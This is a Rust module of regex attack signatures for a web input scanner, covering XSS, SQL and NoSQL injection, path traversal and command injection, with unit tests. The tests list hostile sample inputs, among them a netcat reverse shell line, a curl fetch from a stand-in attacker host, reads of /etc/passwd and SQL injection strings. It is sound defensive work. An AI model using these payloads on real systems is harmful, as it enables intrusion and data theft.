//! Attack signatures.
//!
//! Each signature is an independent capability object with a name and a
//! test, so new shapes can be added and tested on their own. Two fixed
//! ordered sets exist: the full set used by the threat scanner and the
//! narrower SQL/NoSQL set used by the second-pass check.

use regex::Regex;
use std::sync::{Arc, LazyLock};

/// What part of the payload a signature inspects.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SignatureTarget {
    /// String leaves
    Value,
    /// Object keys
    Key,
}

pub trait Signature: Send + Sync {
    fn name(&self) -> &'static str;

    fn target(&self) -> SignatureTarget {
        SignatureTarget::Value
    }

    fn test(&self, input: &str) -> bool;
}

/// Regex-backed signature over string values.
#[derive(Debug)]
pub struct RegexSignature {
    name: &'static str,
    regex: Regex,
}

impl RegexSignature {
    /// Compile a built-in pattern. Only used with constant patterns.
    fn builtin(name: &'static str, pattern: &str) -> Self {
        Self {
            name,
            regex: Regex::new(pattern).expect("built-in signature is a valid regex"),
        }
    }

    pub fn new(name: &'static str, pattern: &str) -> Result<Self, regex::Error> {
        Ok(Self {
            name,
            regex: Regex::new(pattern)?,
        })
    }
}

impl Signature for RegexSignature {
    fn name(&self) -> &'static str {
        self.name
    }

    fn test(&self, input: &str) -> bool {
        self.regex.is_match(input)
    }
}

/// Object keys that are MongoDB-style query operators (`$ne`, `user[$gt]`).
#[derive(Debug)]
pub struct NoSqlOperatorKey {
    regex: Regex,
}

impl Default for NoSqlOperatorKey {
    fn default() -> Self {
        Self {
            regex: Regex::new(r"(?:^|\[)\$[A-Za-z]+").expect("operator key regex is valid"),
        }
    }
}

impl Signature for NoSqlOperatorKey {
    fn name(&self) -> &'static str {
        "nosql_operator_key"
    }

    fn target(&self) -> SignatureTarget {
        SignatureTarget::Key
    }

    fn test(&self, input: &str) -> bool {
        self.regex.is_match(input)
    }
}

const SCRIPT_TAG: &str = r"(?i)<\s*/?\s*script\b";
const SCRIPT_URI: &str = r"(?i)\b(?:javascript|vbscript)\s*:";
const EVENT_HANDLER: &str = r"(?i)\bon(?:abort|blur|change|click|dblclick|error|focus|input|keydown|keypress|keyup|load|mousedown|mousemove|mouseout|mouseover|mouseup|pointerdown|reset|resize|scroll|select|submit|toggle|unload)\s*=";
const SQL_UNION: &str = r"(?i)\bunion\s+(?:all\s+)?select\b";
// A bare "select X from" is ordinary English; require a star, a column list
// or a trailing clause.
const SQL_SELECT_FROM: &str = r"(?i)\bselect\s+(?:\*|[\w.]+(?:\s*,\s*[\w.]+)+)\s+from\b|\bselect\s+[\w.]+\s+from\s+[\w.]+\s*(?:\bwhere\b|;|--)";
const SQL_INSERT_INTO: &str = r"(?i)\binsert\s+into\b";
const SQL_DELETE_FROM: &str = r"(?i)\bdelete\s+from\b";
const SQL_DROP: &str = r"(?i)\bdrop\s+(?:table|database)\b";
const SQL_UPDATE_SET: &str = r"(?i)\bupdate\s+\w+\s+set\b";
const SQL_TAUTOLOGY: &str = r"(?i)'\s*(?:or|and)\s+'?\w+'?\s*=\s*'?\w+";
const SQL_COMMENT: &str = r"(?:'|;)\s*(?:--|#|/\*)";
const PATH_TRAVERSAL: &str = r"\.\.[/\\]";
const PATH_TRAVERSAL_ENCODED: &str = r"(?i)(?:%2e%2e(?:%2f|%5c|/|\\)|\.\.%2f|\.\.%5c|%252e%252e)";
// Short command names are also common words, so after `;`, `|` or `&&` they
// only count when followed by a flag, a path or the end of input.
const COMMAND_INJECTION: &str = r"(?i)(?:`|\$\()\s*(?:cat|ls|rm|wget|curl|nc|bash|sh|whoami|id|uname|ping|chmod|python|perl)\b|(?:;|\|\|?|&&)\s*(?:wget|curl|bash|whoami|uname|chmod|python|perl)\b|(?:;|\|\|?|&&)\s*(?:cat|ls|rm|nc|sh|id|ping)(?:\s+[-/~.]|\s*$)";
const NOSQL_OPERATOR_TEXT: &str = r#"(?i)["'\[]\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|expr)\b"#;

fn builtin(name: &'static str, pattern: &str) -> Arc<dyn Signature> {
    Arc::new(RegexSignature::builtin(name, pattern))
}

static FULL_SET: LazyLock<Vec<Arc<dyn Signature>>> = LazyLock::new(|| {
    vec![
        builtin("script_tag", SCRIPT_TAG),
        builtin("script_uri", SCRIPT_URI),
        builtin("event_handler", EVENT_HANDLER),
        builtin("sql_union", SQL_UNION),
        builtin("sql_select_from", SQL_SELECT_FROM),
        builtin("sql_insert_into", SQL_INSERT_INTO),
        builtin("sql_delete_from", SQL_DELETE_FROM),
        builtin("sql_drop", SQL_DROP),
        builtin("sql_update_set", SQL_UPDATE_SET),
        builtin("sql_tautology", SQL_TAUTOLOGY),
        builtin("sql_comment", SQL_COMMENT),
        builtin("path_traversal", PATH_TRAVERSAL),
        builtin("path_traversal_encoded", PATH_TRAVERSAL_ENCODED),
        builtin("command_injection", COMMAND_INJECTION),
        Arc::new(NoSqlOperatorKey::default()) as Arc<dyn Signature>,
    ]
});

static SQL_NOSQL_SET: LazyLock<Vec<Arc<dyn Signature>>> = LazyLock::new(|| {
    vec![
        builtin("sql_union", SQL_UNION),
        builtin("sql_drop", SQL_DROP),
        builtin("sql_tautology", SQL_TAUTOLOGY),
        builtin("sql_comment", SQL_COMMENT),
        builtin("nosql_operator", NOSQL_OPERATOR_TEXT),
        Arc::new(NoSqlOperatorKey::default()) as Arc<dyn Signature>,
    ]
});

/// Every signature, in evaluation order.
pub fn full() -> Vec<Arc<dyn Signature>> {
    FULL_SET.clone()
}

/// SQL and NoSQL signatures only, for the second pass over raw input.
pub fn sql_nosql() -> Vec<Arc<dyn Signature>> {
    SQL_NOSQL_SET.clone()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn first_match(set: &[Arc<dyn Signature>], input: &str) -> Option<&'static str> {
        set.iter()
            .filter(|s| s.target() == SignatureTarget::Value)
            .find(|s| s.test(input))
            .map(|s| s.name())
    }

    #[test]
    fn test_known_attacks_match() {
        let set = full();
        let cases = [
            ("<script>alert(1)</script>", "script_tag"),
            ("< SCRIPT src=x>", "script_tag"),
            ("javascript:alert(1)", "script_uri"),
            ("<img src=x onerror=alert(1)>", "event_handler"),
            ("1 UNION ALL SELECT password FROM users", "sql_union"),
            ("select id, email from users", "sql_select_from"),
            ("'; DROP TABLE users", "sql_drop"),
            ("' OR '1'='1", "sql_tautology"),
            ("admin'--", "sql_comment"),
            ("../../etc/passwd", "path_traversal"),
            ("..\\..\\windows\\win.ini", "path_traversal"),
            ("%2e%2e%2fetc%2fpasswd", "path_traversal_encoded"),
            ("%252e%252e%252f", "path_traversal_encoded"),
            ("x; cat /etc/passwd", "command_injection"),
            ("$(whoami)", "command_injection"),
            ("a | nc -e /bin/sh 10.0.0.1 4444", "command_injection"),
            ("x; id", "command_injection"),
            ("`uname -a`", "command_injection"),
            ("x && curl http://evil.example/x.sh", "command_injection"),
            ("select password from users where id = 1", "sql_select_from"),
            ("SELECT * FROM orders", "sql_select_from"),
        ];
        for (input, expected) in cases {
            assert_eq!(first_match(&set, input), Some(expected), "{input}");
        }
    }

    #[test]
    fn test_ordinary_text_passes() {
        let set = full();
        for input in [
            "Cast Iron Wood Stove 12kW",
            "Flue pipe, 150mm, stainless steel",
            "Fits most inserts. Selected from our premium range.",
            "Tom & Jerry's firewood",
            "O'Brien",
            "https://hearthandflame.example/products?id=42",
            "Price: $129.99",
            "Select finish from the list",
            "Flue liner OD 32mm; ID 25mm",
            "Pet guard, dog & cat safe",
            "Ash pan | catches embers",
            "Choose colour; cast iron or steel",
        ] {
            assert_eq!(first_match(&set, input), None, "{input}");
        }
    }

    #[test]
    fn test_operator_keys() {
        let key = NoSqlOperatorKey::default();
        assert!(key.test("$ne"));
        assert!(key.test("password[$gt]"));
        assert!(!key.test("price"));
        assert!(!key.test("amount_$"));
    }

    #[test]
    fn test_second_pass_is_narrower() {
        let set = sql_nosql();
        assert!(set.len() < full().len());
        assert_eq!(first_match(&set, r#"{"password":{"$ne":null}}"#), Some("nosql_operator"));
        assert_eq!(first_match(&set, "<script>"), None);
    }
}
